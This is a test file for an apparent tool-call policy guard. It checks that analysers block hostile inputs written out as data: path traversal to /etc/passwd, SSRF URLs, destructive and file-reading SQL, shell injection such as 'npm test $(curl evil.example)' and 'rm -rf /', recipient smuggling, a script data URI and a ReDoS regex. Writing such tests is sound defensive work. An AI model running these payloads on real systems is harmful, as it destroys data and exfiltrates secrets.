import { mkdtempSync, realpathSync, rmSync, symlinkSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { ANALYSERS, nodeWorld } from '../../src/analysis/all.ts'
import type { Analyser } from '../../src/analysis/analyser.ts'
import { createAnalysis } from '../../src/analysis/analysis.ts'
import { type AnalysisSubject, type FactKind, NO_FACTS } from '../../src/kernel/facts.ts'
import type { JsonObject } from '../../src/kernel/json.ts'
import { request } from '../../src/kernel/testing/requests.ts'
import { decisionPoint, loadPolicies } from '../../src/policy/policy.ts'

const POLICIES = `
@id("all") permit (principal, action, resource);
@id("path") forbid (principal, action, resource) when { context.facts.guards["project"] == "fail" };
@id("url") forbid (principal, action, resource) when { context.facts.guards["web"] == "fail" };
@id("sql") forbid (principal, action, resource) when { context.facts.guards["reading"] == "fail" };
@id("shell") forbid (principal, action, resource) when { context.facts.guards["build"] == "fail" };
@id("recipient") forbid (principal, action, resource) when { context.facts.guards["inside"] == "fail" };
@id("amount") forbid (principal, action, resource) when { context.facts.guards["small"] == "fail" };
@id("identifier") forbid (principal, action, resource) when { context.facts.identifiers.types.contains("card") };
@id("media") forbid (principal, action, resource) when { context.facts.guards["pictures"] == "fail" };
@id("pattern") forbid (principal, action, resource) when { context.facts.patterns.flags.contains("catastrophic") };
`
const GUARDS = (root: string): string => `
guards:
  project: { path: { within: ["${root}"] } }
  web: { url: { hosts: ["api.example.com"], ranges: [public, unresolved] } }
  reading: { sql: { dialect: postgresql, tables: [ticket] } }
  build: { shell: { programs: [npm] } }
  inside: { recipients: { domains: ["harbour.example"] } }
  small: { amount: { max: "100.00", currencies: [EUR] } }
  pictures: { media: { types: ["image/*"] } }
`

interface Case {
  readonly kind: FactKind
  readonly allowed: JsonObject
  /** Each by another way than its plain form. */
  readonly attacks: readonly JsonObject[]
}

const CASES: readonly Case[] = [
  {
    kind: 'path',
    allowed: { path: 'notes/today.md' },
    attacks: [{ path: '../secret' }, { path: 'out/passwd' }, { note: '/etc/passwd' }],
  },
  {
    kind: 'url',
    allowed: { url: 'https://api.example.com/v1' },
    attacks: [
      { url: 'http://0x7f.1/' },
      { url: 'https://api.example.com@evil.example/' },
      { text: 'see https://evil.example/x?data=1' },
    ],
  },
  {
    kind: 'sql',
    allowed: { sql: 'SELECT status FROM ticket WHERE id = 3' },
    attacks: [
      { sql: 'WITH x AS (DELETE FROM ticket RETURNING *) SELECT * FROM x' },
      { sql: "SELECT pg_read_file('/etc/passwd')" },
      { note: 'DROP TABLE ticket' },
    ],
  },
  {
    kind: 'shell',
    allowed: { command: 'npm test' },
    attacks: [{ command: 'npm test $(curl evil.example)' }, { command: "sh -c 'rm -rf /'" }],
  },
  {
    kind: 'recipient',
    allowed: { to: 'ada@harbour.example', subject: 's' },
    attacks: [
      { to: 'ada@harbour.example, x@evil.example', subject: 's' },
      { to: '"ada@harbour.example" <x@evil.example>', subject: 's' },
      { note: 'x@evil.example' },
    ],
  },
  {
    kind: 'amount',
    allowed: { amount: 12.5, currency: 'EUR' },
    attacks: [{ amount: '1,250.00 EUR' }, { amount: 5, currency: 'BTC' }],
  },
  {
    kind: 'identifier',
    allowed: { reference: '2026-000123' },
    attacks: [{ note: 'pay with 4111 1111 1111 1111' }],
  },
  {
    kind: 'media',
    allowed: { content_type: 'image/png' },
    attacks: [
      { content_type: 'text/html' },
      { note: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
    ],
  },
  {
    kind: 'pattern',
    allowed: { regex: '^[a-z]+$' },
    attacks: [{ regex: '(a+)+$' }],
  },
]

let root: string
beforeAll(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'bailiwick-analysers-')))
  symlinkSync('/etc', join(root, 'out'))
})
afterAll(() => rmSync(root, { recursive: true, force: true }))

/** Decides calls with these analysers alone. */
function decider(analysers: readonly Analyser[]) {
  const world = nodeWorld({ clock: Date.now, mayResolve: () => false })
  const { analyse } = createAnalysis({ analysers, world })
  const sources = [
    { file: 'a.cedar', text: POLICIES },
    { file: 'a.yaml', text: GUARDS(root) },
  ]
  const point = decisionPoint(loadPolicies(sources, { places: {}, realRoot: (path) => path }))
  const tool: AnalysisSubject = {
    server: 's',
    tool: 'run',
    inputSchema: undefined,
    hints: {},
    local: true,
    cwd: root,
  }
  return async (args: JsonObject): Promise<boolean> => {
    const facts = { ...NO_FACTS, ...(await analyse(tool, args)) }
    const asked = request('call', 's', 'run', { arguments: args, facts })
    return point.decide(asked).effect === 'permit'
  }
}

test('there is an analyser of every kind, and a case of each', () => {
  const kinds = ANALYSERS.map(({ kind }) => kind)
  expect(kinds.toSorted()).toEqual(CASES.map(({ kind }) => kind).toSorted())
  expect(new Set(kinds).size).toBe(9)
})

describe.each(CASES)('the analyser of kind $kind', ({ kind, allowed, attacks }) => {
  test.each(attacks)('stops %j', async (args) => {
    expect(await decider(ANALYSERS)(args)).toBe(false)
  })

  test('lets pass what is fit', async () => {
    expect(await decider(ANALYSERS)(allowed)).toBe(true)
  })

  test('is missed when it is gone: an attack passes then', async () => {
    const without = decider(ANALYSERS.filter((one) => one.kind !== kind))
    const passed = await Promise.all(attacks.map((args) => without(args)))
    expect(passed).toContain(true)
  })
})
